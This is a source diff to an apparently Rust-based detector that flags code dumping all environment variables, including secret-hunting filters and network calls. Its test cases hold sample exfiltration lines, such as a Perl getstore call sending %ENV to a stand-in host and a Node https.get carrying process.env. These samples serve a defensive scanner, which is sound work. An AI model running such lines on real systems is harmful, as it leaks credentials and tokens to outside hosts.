@@ -13,7 +13,11 @@ use super::value::string_end;
 pub(super) fn dump(language: Language, code: &str, prints_result: bool) -> Option<bool> {
     let (objects, printers): (&[&str], &[&str]) = match language {
         Language::Python => {
-            (&["os.environ", "environ"], &["print(", "pprint(", "stdout.write(", "json.dump("])
+            // IPython's `%env` magic alone is the whole environment, shown as the cell's value.
+            (
+                &["os.environ", "environ", "%env"],
+                &["print(", "pprint(", "stdout.write(", "json.dump(", "%env"],
+            )
         }
         Language::Node => (
             &["process.env", "Deno.env.toObject()", "Bun.env"],
@@ -54,9 +58,10 @@ pub(super) fn dump(language: Language, code: &str, prints_result: bool) -> Optio
         | Language::Dc
         | Language::M4 => return None,
     };
+    let source = code;
     let code = masked(language, code);
     let whole = objects.iter().any(|object| {
-        code.match_indices(object).any(|(at, _)| whole_environment(language, &code, at, object))
+        code.match_indices(object).any(|(at, _)| whole_environment(language, &code, source, at, object))
     });
     if !whole {
         return None;
@@ -106,6 +111,9 @@ const NETWORK: &[&str] = &[
     "HTTParty",
     "TCPSocket",
     "LWP",
+    // LWP::Simple's own calls, imported by `-MLWP::Simple` outside the code.
+    "getstore(",
+    "getprint(",
     "HTTP::Tiny",
     "IO::Socket",
     "curl_",
@@ -132,8 +140,16 @@ const NETWORK: &[&str] = &[
 /// Whether the environment object at `at` is taken whole: not one variable of it
 /// (`os.environ["X"]`, `os.environ.get(`, `process.env.PATH`, `ENV.fetch`, `$ENV{X}`), and not
 /// handed to a child process (`env=dict(os.environ)`, `{...process.env}` as `env:`).
-fn whole_environment(language: Language, code: &str, at: usize, object: &str) -> bool {
+/// `source` is `code` with its strings unmasked (the same length).
+fn whole_environment(language: Language, code: &str, source: &str, at: usize, object: &str) -> bool {
     let before = &code[..at];
+    // `%env` alone on its line lists the variables; `%env HOME` shows one, `%env X=1` sets one,
+    // and `x %env` is a remainder.
+    if object == "%env" {
+        let alone = |text: Option<&str>| text.is_none_or(|text| text.trim().is_empty());
+        return alone(before.rsplit(['\n', ';']).next())
+            && alone(code[at + object.len()..].split(['\n', ';']).next());
+    }
     // Part of a longer name (`my_environ`, `PROCESS_ENV`).
     let joined_before = before.bytes().last().is_some_and(|b| b.is_ascii_alphanumeric() || b == b'_')
         || object == "environ" && before.ends_with("os.");
@@ -172,8 +188,10 @@ fn whole_environment(language: Language, code: &str, at: usize, object: &str) ->
             .any(|call| before.trim_end().ends_with(call))
             && !(language == Language::Perl && before.trim_end().ends_with("keys("));
     // `{k: v for k, v in os.environ.items() if k.startswith("LC_")}`: the variables a test picks.
+    // A test that picks the secrets (`if "KEY" in k or "TOKEN" in k`) is the hunt for them.
     let filtered = after.starts_with(".items()")
-        && after.split(['\n', ';']).next().is_some_and(|rest| rest.contains(" if "));
+        && after.split(['\n', ';']).next().is_some_and(|rest| rest.contains(" if "))
+        && !source.get(at..).and_then(|rest| rest.split(['\n', ';']).next()).is_some_and(picks_secrets);
     if one_variable || names || filtered || after.starts_with(|c: char| c.is_ascii_alphanumeric() || c == '_')
     {
         return false;
@@ -191,6 +209,12 @@ fn whole_environment(language: Language, code: &str, at: usize, object: &str) ->
             || compact.ends_with(&format!("{form}{{"))
     });
     !handed
+}
+
+/// Whether a filter's text names the variables that hold secrets.
+fn picks_secrets(filter: &str) -> bool {
+    let filter = filter.to_ascii_lowercase();
+    ["key", "token", "secret", "pass", "auth", "cred"].iter().any(|word| filter.contains(word))
 }
 
 /// `code` with the text of its string literals and comments blanked, so that `print("os.environ")`
@@ -249,6 +273,11 @@ mod tests {
         assert_eq!(dump(Language::Node, "https.get(u + JSON.stringify(process.env))", false), Some(true));
         assert_eq!(dump(Language::Ruby, "p ENV.to_h", false), Some(false));
         assert_eq!(dump(Language::Perl, "print \"$_=$ENV{$_}\\n\" for keys %ENV", false), Some(false));
+        let picked = "import os,json;print(json.dumps({k:v for k,v in os.environ.items() if \"KEY\" in k}))";
+        assert_eq!(python(picked), Some(false));
+        assert_eq!(python("%env"), Some(false));
+        let stored = "getstore(\"http://e.example/?\".join(\",\",%ENV),\"/dev/null\")";
+        assert_eq!(dump(Language::Perl, stored, false), Some(true));
     }
 
     #[test]
@@ -268,6 +297,12 @@ mod tests {
         assert_eq!(python("import os; print('CI' in os.environ)"), None);
         assert_eq!(python("import os\nfor k in os.environ: print(k, os.environ[k])"), Some(false));
         assert_eq!(python("import os; print(len(os.environ), sorted(os.environ.keys()))"), None);
+        assert_eq!(
+            python("import os; print({k: v for k, v in os.environ.items() if k.startswith('LC_')})"),
+            None
+        );
+        assert_eq!(python("%env HOME"), None);
+        assert_eq!(python("print('%s' %env)"), None);
         assert_eq!(dump(Language::Node, "console.log(Object.keys(process.env).length)", false), None);
         assert_eq!(dump(Language::Node, "console.log(process.env.PATH)", false), None);
         assert_eq!(
